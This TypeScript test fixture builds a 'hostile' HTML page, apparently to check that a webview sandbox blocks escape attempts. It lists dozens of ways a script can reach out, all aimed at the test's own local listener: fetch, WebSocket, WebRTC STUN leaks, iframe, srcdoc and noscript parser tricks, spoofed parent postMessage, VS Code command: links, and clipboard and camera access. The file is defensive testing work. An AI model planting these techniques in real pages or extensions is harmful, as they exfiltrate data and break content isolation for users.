// A page whose scripts run and try every way out, each with an address of its own.
import type { Listener } from './hostilePage.ts';

export interface HostileScripts {
  html: string;
  /** In the order in which they are tried; the page keeps a list of them, `tried`. */
  names: readonly string[];
}

/** Statements that are run one after the other. `to` is the listener's address, `stun` one for WebRTC. */
function ways(to: string, stun: string): Readonly<Record<string, string>> {
  const rtc = `const p=new RTCPeerConnection({iceServers:[{urls:'${stun}'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))`;
  const inFrame = rtc.replaceAll("'", '`');
  const put = (markup: string): string => `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(markup)})`;
  const frame = (rest: string): string => `const f=document.createElement('iframe');${rest};document.body.append(f)`;
  const element = (name: string, set: string): string =>
    `const e=document.createElement('${name}');Object.assign(e,${set});document.head.append(e)`;
  return {
    // requests
    fetch: `fetch('${to}/fetch').catch(()=>0)`,
    fetchKeepalive: `fetch('${to}/fetch-keepalive',{mode:'no-cors',keepalive:true}).catch(()=>0)`,
    fetchLater: `fetchLater('${to}/fetch-later',{activateAfter:0})`,
    xhr: `const x=new XMLHttpRequest();x.open('GET','${to}/xhr');x.send()`,
    websocket: `new WebSocket('${to.replace('http', 'ws')}/websocket')`,
    eventSource: `new EventSource('${to}/event-source')`,
    beacon: `navigator.sendBeacon('${to}/beacon','x')`,
    webTransport: `new WebTransport('${to.replace('http', 'https')}/web-transport')`,
    image: `new Image().src='${to}/image'`,
    imageSet: `document.body.style.backgroundImage="image-set('${to}/image-set' 1x)"`,
    css: `const s=document.createElement('style');s.textContent="@import '${to}/import';body{background:url('${to}/background')}";document.head.append(s)`,
    sheet: `const c=new CSSStyleSheet();c.replaceSync("body{cursor:url('${to}/cursor'),auto}");document.adoptedStyleSheets=[c]`,
    font: `new FontFace('x',"url('${to}/font')").load().catch(()=>0)`,
    video: `const v=document.createElement('video');v.src='${to}/video';v.poster='${to}/poster';document.body.append(v);v.load()`,
    audio: `new Audio('${to}/audio').play().catch(()=>0)`,
    svgImage: put(`<svg><image href="${to}/svg-image"/><use href="${to}/svg-use#a"/></svg>`),
    scriptElement: element('script', `{src:'${to}/script-element'}`),
    moduleElement: element('script', `{type:'module',src:'${to}/module-element'}`),
    importMap: `const e=document.createElement('script');e.type='importmap';e.textContent='{"imports":{"a":"${to}/import-map"}}';document.head.append(e);import('a').catch(()=>0)`,
    dynamicImport: `import('${to}/dynamic-import').catch(()=>0)`,
    dataImport: `import('data:text/javascript,fetch("${to}/data-import")').catch(()=>0)`,
    blobImport: `import(URL.createObjectURL(new Blob(['fetch("${to}/blob-import")'],{type:'text/javascript'}))).catch(()=>0)`,
    wasm: `WebAssembly.instantiateStreaming(fetch('${to}/wasm')).catch(()=>0)`,
    manifest: element('link', `{rel:'manifest',href:'${to}/manifest'}`),
    // opened ahead
    stylesheet: element('link', `{rel:'stylesheet',href:'${to}/stylesheet'}`),
    preconnect: element('link', `{rel:'preconnect',href:'${to}'}`),
    preload: element('link', `{rel:'preload',as:'image',href:'${to}/preload'}`),
    prefetch: element('link', `{rel:'prefetch',href:'${to}/prefetch'}`),
    modulepreload: element('link', `{rel:'modulepreload',href:'${to}/modulepreload'}`),
    linkNamespace: `const e=document.createElementNS('http://www.w3.org/1999/xhtml','h:link');e.rel='preconnect';e.href='${to}';document.head.append(e)`,
    linkMarkup: put(`<link rel="preconnect" href="${to}"><link rel="stylesheet" href="${to}/link-markup">`),
    linkParsed: `const d=new DOMParser().parseFromString('<html xmlns="http://www.w3.org/1999/xhtml"><link rel="stylesheet" href="${to}/link-parsed"/></html>','application/xhtml+xml');document.head.append(...d.querySelectorAll('*'))`,
    linkDocument: `const d=document.implementation.createDocument('http://www.w3.org/1999/xhtml','link');d.documentElement.rel='stylesheet';d.documentElement.href='${to}/link-document';document.head.append(d.documentElement)`,
    linkExtended: `class L extends HTMLLinkElement{};customElements.define('x-link',L,{extends:'link'});const e=new L();e.rel='stylesheet';e.href='${to}/link-extended';document.head.append(e)`,
    linkWritten: `document.write('<li');document.write('nk rel="stylesheet" href="${to}/link-written">')`,
    speculation: `const e=document.createElement('script');e.type='speculationrules';e.textContent='{"prefetch":[{"urls":["${to}/speculation"],"eagerness":"immediate"}]}';document.head.append(e)`,
    dnsPrefetch: put(
      `<meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="//prefetch.invalid">`,
    ),
    // other globals
    worker: `new Worker(URL.createObjectURL(new Blob(['fetch("${to}/worker")'])))`,
    dataWorker: `new Worker('data:text/javascript,fetch("${to}/data-worker")')`,
    sharedWorker: `new SharedWorker(URL.createObjectURL(new Blob(['fetch("${to}/shared-worker")'])))`,
    serviceWorker: `navigator.serviceWorker.register('${to}/service-worker').catch(()=>0)`,
    worklet: `CSS.paintWorklet.addModule('${to}/worklet').catch(()=>0)`,
    audioWorklet: `new AudioContext().audioWorklet.addModule('${to}/audio-worklet').catch(()=>0)`,
    webrtc: rtc,
    webrtcPrefixed: rtc.replace('RTCPeerConnection', 'webkitRTCPeerConnection'),
    blankFrame: `${frame('')};const {RTCPeerConnection}=f.contentWindow;${rtc}`,
    framesList: `${frame('')};const {RTCPeerConnection}=frames[frames.length-1];${rtc}`,
    srcdocFrame: frame(`f.srcdoc=\`<script>${inFrame.replaceAll('`', "'")}<\\/script>\``),
    srcdocAttribute: `const a=document.createAttribute('srcdoc');a.value="<script>${inFrame}<\\/script>";${frame('f.setAttributeNode(a)')}`,
    javascriptFrame: frame(`f.src="javascript:${inFrame}"`),
    dataFrame: frame(`f.src="data:text/html,<script>${inFrame}<\\/script>"`),
    blobFrame: frame(`f.src=URL.createObjectURL(new Blob(["<script>${inFrame}<\\/script>"],{type:'text/html'}))`),
    networkFrame: frame(`f.src='${to}/frame'`),
    markupFrame: put(`<iframe srcdoc="<script>${inFrame}</script>"></iframe>`),
    templateFrame: `const t=document.createElement('template');t.innerHTML="<iframe srcdoc='<script>${inFrame}<\\/script>'></iframe>";document.body.append(t.content.cloneNode(true))`,
    fragmentFrame: `document.body.append(document.createRange().createContextualFragment("<iframe srcdoc='<script>${inFrame}<\\/script>'></iframe>"))`,
    parsedFrame: `document.body.append(new DOMParser().parseFromString("<iframe srcdoc='<script>${inFrame}<\\/script>'></iframe>",'text/html').body.firstChild)`,
    unsafeFrame: `document.body.setHTMLUnsafe("<div><template shadowrootmode='closed'><iframe srcdoc='<script>${inFrame}<\\/script>'></iframe></template></div>")`,
    parsedUnsafe: `document.body.append(Document.parseHTMLUnsafe("<div><template shadowrootmode='closed'><iframe srcdoc='<script>${inFrame}<\\/script>'></iframe></template></div>").body.firstChild)`,
    shadowFrame: `const d=document.createElement('div');document.body.append(d);d.attachShadow({mode:'closed'}).innerHTML="<iframe srcdoc='<script>${inFrame}<\\/script>'></iframe>"`,
    writtenFrame: `document.write('<ifr');document.write("ame srcdoc='<script>${inFrame}<\\/script>'></iframe>")`,
    xhtmlFrame: `const d=new DOMParser().parseFromString('<html xmlns="http://www.w3.org/1999/xhtml"><iframe srcdoc="&lt;script>${inFrame}&lt;/script>"/></html>','text/xml');document.body.append(...d.documentElement.childNodes)`,
    object: put(`<object data="data:text/html,<script>${inFrame}</script>"></object><embed src="${to}/embed">`),
    importNode: `document.body.append(document.importNode(new DOMParser().parseFromString("<object data='${to}/object'></object>",'text/html').body.firstChild,true))`,
    command: `document.body.contentEditable='true';document.body.focus();document.execCommand('insertHTML',false,"<iframe srcdoc='<script>${inFrame}<\\/script>'></iframe>");document.body.contentEditable='false'`,
    xslt: `const x=new XSLTProcessor()`,
    policy: `trustedTypes.createPolicy('mine',{createHTML:s=>s})`,
    evaluated: `new Function("fetch('${to}/evaluated')")()`,
    timed: `setTimeout("fetch('${to}/timed')")`,
    // whoever is around it
    parentDocument: `parent.document===document||parent.document.title`,
    topDocument: `top.document.title`,
    topLocation: `top.location='${to}/top-location'`,
    parentMessage: `parent.postMessage({kind:'event',name:'state/changed',value:{html:'<h1>spoofed</h1>'}},'*');top.postMessage({kind:'event'},'*')`,
    vscode: `acquireVsCodeApi().postMessage({})`,
    opened: `const w=open('${to}/opened');if(w)w.close()`,
    clickedBlank: `const a=document.createElement('a');a.href='${to}/clicked-blank';a.target='_blank';document.body.append(a);a.click()`,
    clickedDownload: `const a=document.createElement('a');a.href='data:text/plain,x';a.download='x.txt';document.body.append(a);a.click()`,
    clickedCommand: `for(const to of ['command:workbench.action.quit','vscode:extension/x']){const a=document.createElement('a');a.href=to;document.body.append(a);a.click()}`,
    ping: `const a=document.createElement('a');a.href='#here';a.ping='${to}/ping';document.body.append(a);a.click()`,
    form: `const f=document.createElement('form');f.action='${to}/form';f.method='post';document.body.append(f);f.submit()`,
    formBlank: `const f=document.createElement('form');f.action='${to}/form-blank';f.target='_blank';document.body.append(f);f.requestSubmit()`,
    handler: `navigator.registerProtocolHandler('web+x','${to}/%s')`,
    // what stays behind
    storage: `localStorage.setItem('kept','yes');sessionStorage.setItem('kept','yes')`,
    cookie: `document.cookie='kept=yes'`,
    database: `indexedDB.open('kept')`,
    caches: `caches.open('kept').catch(()=>0)`,
    broadcast: `new BroadcastChannel('x').postMessage('x')`,
    files: `showSaveFilePicker().catch(()=>0)`,
    // the person in front of it
    dialogs: `alert('hello');confirm('sure?');prompt('what?');print()`,
    fullscreen: `document.documentElement.requestFullscreen().catch(()=>0)`,
    pointer: `document.documentElement.requestPointerLock()?.catch?.(()=>0)`,
    clipboard: `navigator.clipboard.readText().catch(()=>0)`,
    camera: `navigator.mediaDevices.getUserMedia({video:true}).catch(()=>0)`,
    place: `navigator.geolocation.getCurrentPosition(()=>0)`,
    notification: `Notification.requestPermission()`,
    history: `history.pushState(null,'','/elsewhere');history.back()`,
  };
}

/** What stands in the page's own source. */
function inSource(to: string, stun: string): string[] {
  const rtc = `const p=new RTCPeerConnection({iceServers:[{urls:'${stun}'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))`;
  return [
    `<link rel="preconnect" href="${to}"><link rel="stylesheet" href="${to}/source-stylesheet">`,
    `<LINK rel="prefetch" href="${to}/source-prefetch">`,
    `<meta http-equiv="refresh" content="1;url=${to}/source-refresh">`,
    `<base href="${to}/base/">`,
    `<iframe srcdoc="&lt;script>${rtc}&lt;/script>"></iframe>`,
    `<iframe src="javascript:${rtc}"></iframe>`,
    `<div><template shadowrootmode="closed"><iframe srcdoc="&lt;script>${rtc}&lt;/script>"></iframe></template></div>`,
    `<noscript><p title="</noscript><iframe srcdoc='<script>${rtc.replaceAll("'", '`')}</script>'></iframe>"></noscript>`,
    `<object data="${to}/source-object"></object><embed src="${to}/source-embed">`,
    `<script type="speculationrules">{"prefetch":[{"urls":["${to}/source-speculation"],"eagerness":"immediate"}]}</script>`,
    `<script src="${to}/source-script"></script>`,
    `<img src="${to}/source-image" onerror="fetch('${to}/source-onerror').catch(()=>0)" alt="A picture">`,
    `<img src="relative" alt="">`,
    `<form action="${to}/source-form"><button id="submit">go</button></form>`,
  ];
}

export function hostileScripts({ origin, udpPort }: Listener): HostileScripts {
  const stun = `stun:127.0.0.1:${udpPort}`;
  const all = ways(origin, stun);
  const names = Object.keys(all);
  const scripts = Object.entries(all).map(
    ([name, code]) =>
      `<script>(globalThis.tried??=[]).push('${name}');try{(()=>{${code.replaceAll('</script', '<\\/script')}})()}catch(e){console.log('stopped ${name}: '+e.name)}</script>`,
  );
  const html = [
    '<!DOCTYPE html>',
    '<html lang="en"><head><meta charset="utf-8"><title>hostile</title></head>',
    '<body>',
    '<h1 id="here">Hostile page</h1>',
    ...inSource(origin, stun),
    ...scripts,
    `<script>document.getElementById('submit')?.click();console.log('the end');globalThis.ended=true</script>`,
    '</body></html>',
  ].join('\n');
  return { html, names };
}
